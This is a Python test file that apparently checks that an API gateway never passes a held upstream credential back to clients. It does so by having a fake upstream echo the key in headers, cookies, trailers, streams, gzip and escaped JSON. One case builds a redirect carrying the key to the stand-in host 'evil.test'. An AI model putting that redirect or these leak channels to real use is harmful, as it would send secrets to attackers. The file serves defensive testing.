"""The held credential, echoed by an upstream, is delivered to nobody, however and wherever it is written."""

import base64
import gzip
import json
from collections.abc import Callable, Iterator

import pytest

from tests.end_to_end.faulty_upstreams import Plant, plant_in
from tests.end_to_end.refusals import bearer, chat, inside, read_to_end, request
from tests.gateway import HELD_KEY
from tests.simulators.answers import SSE, chunked, completion, events, head, held, said, zipped


@pytest.fixture(scope="module")
def started(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Plant]:
    with plant_in(tmp_path_factory.mktemp("echoes")) as plant:
        yield plant


@pytest.fixture
def plant(started: Plant) -> Iterator[Plant]:
    started.upstream.replies.clear()
    started.upstream.received.clear()
    yield started
    assert HELD_KEY not in started.gate.log
    assert started.gate.process.poll() is None


# Answers that echo the held credential. The credential is never delivered, however it is written.
ECHOES: dict[str, Callable[[str], bytes]] = {
    "JSON": lambda key: head(completion(f"Your key is {key}.")),
    "an error": lambda key: head(
        json.dumps({"error": {"message": f"Bad key: {key}", "type": "x"}}).encode(), status="401 Unauthorized"
    ),
    "a key of JSON": lambda key: head(json.dumps({key: 1}).encode()),
    "escaped JSON": lambda key: head(
        completion("KEY").replace(b"KEY", "".join(f"\\u{ord(c):04x}" for c in key).encode())
    ),
    "invalid JSON": lambda key: head(f'{{"error": "{key}'.encode()),
    "HTML": lambda key: head(f"<p>{key}</p>".encode(), kind="text/html", status="500 Oh"),
    "no label": lambda key: head(key.encode(), kind=""),
    "binary by its label": lambda key: head(b"\0\1" + key.encode(), kind="application/octet-stream"),
    "an image by its label": lambda key: head(b"\x89PNG" + key.encode(), kind="image/png"),
    "UTF-16": lambda key: head(completion(key).decode().encode("utf-16"), kind="application/json; charset=utf-16"),
    "gzip": lambda key: zipped(completion(key)),
    "a header": lambda key: head(completion("hi"), f"X-Key: {key}", f"X-Key: again {key}"),
    "the name of a header": lambda key: head(completion("hi"), f"{key}: 1"),
    "an interim answer": lambda key: f"HTTP/1.1 103 {key}\r\nX-Key: {key}\r\n\r\n".encode() + head(completion("hi")),
    "the reason phrase": lambda key: head(completion("hi"), status=f"200 {key}"),
    "the content type": lambda key: head(completion("hi"), kind=f"application/json; key={key}"),
    "a cookie": lambda key: head(completion("hi"), f"Set-Cookie: k={key}; Path=/"),
    "a redirect": lambda key: head(b"", f"Location: https://evil.test/?k={key}", status="302 Found"),
    "a trailer": lambda key: chunked(completion("hi"), end=f"0\r\nX-Key: {key}\r\n\r\n".encode()),
    "a chunk extension": lambda key: chunked(completion("hi"), end=f"0;key={key}\r\n\r\n".encode()),
    "a stream": lambda key: chunked(events(f"Your key is {key}."), kind=SSE),
    "a stream, cut small": lambda key: chunked(*(bytes([byte]) for byte in events(f"Your key is {key}.", 1)), kind=SSE),
    "a comment of a stream": lambda key: head(f": {key}\n\n".encode() + events("hi"), kind=SSE),
    "the name of an event": lambda key: head(f"event: {key}\nid: {key}\n".encode() + events("hi"), kind=SSE),
    "a stream in gzip": lambda key: head(gzip.compress(events(key)), "Content-Encoding: gzip", kind=SSE),
    "a stream labelled JSON": lambda key: head(events(key)),
    "JSON labelled a stream": lambda key: head(completion(key), kind=SSE),
    "text labelled a stream": lambda key: head(key.encode(), kind=SSE),
    "a stream's trailer": lambda key: chunked(events("hi"), end=f"0\r\nX-Key: {key}\r\n\r\n".encode(), kind=SSE),
    "a length that lies": lambda key: head(completion("hi")) + key.encode(),
}


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "streamed"])
@pytest.mark.parametrize("case", ECHOES)
def test_the_held_credential_is_not_delivered(plant: Plant, case: str, *, stream: bool) -> None:
    plant.upstream.replies["answer"] = lambda received: ECHOES[case](held(received))
    with inside(plant.gate, bearer(plant.token)) as opened:
        opened.sendall(request(chat("answer", stream=stream), "Connection: close"))
        got = read_to_end(opened)
    assert got.startswith(b"HTTP/1.1 ")
    assert held(plant.upstream.received[-1]) == HELD_KEY, "the upstream needs the credential"
    _, _, body = got.partition(b"\r\n\r\n")
    views = [got, body.replace(b"\0", b""), *(unescaped(view) for view in (body, body.decode("latin-1").encode()))]
    text = said_in(body)
    assert all(HELD_KEY.encode() not in view for view in views)
    assert HELD_KEY not in text


@pytest.mark.parametrize("case", ["JSON", "an error", "HTML", "gzip", "a header", "a stream", "a stream in gzip"])
def test_only_the_credential_is_taken_out(plant: Plant, case: str) -> None:
    plant.upstream.replies["answer"] = lambda received: ECHOES[case](held(received))
    answer = plant.post("answer", stream="stream" in case)
    assert answer.status_code in {200, 401, 500}
    assert "[CREDENTIAL]" in answer.text + said(answer.text) + str(answer.headers)


def unescaped(body: bytes) -> bytes:
    return body.decode("latin-1").encode("ascii", "ignore").decode("unicode_escape", "ignore").encode()


def said_in(body: bytes) -> str:
    """Return what the deltas in ``body`` say, be it chunked or not."""
    text = body.decode("latin-1")
    lines = [line for line in text.splitlines() if line.startswith("data: {") and line.endswith("}")]
    return said("\n".join(lines))


def test_the_credential_is_nowhere_in_the_ledger(plant: Plant) -> None:
    for case in ECHOES.values():
        plant.upstream.replies["answer"] = lambda received, case=case: case(held(received))  # type: ignore[misc]
        plant.raw("answer")
    files = [path.read_bytes() for path in plant.gate.site.ledger.rglob("*") if path.is_file()]
    forms = (HELD_KEY.encode(), base64.b64encode(HELD_KEY.encode())[:-4])
    assert not any(form in file for form in forms for file in files)
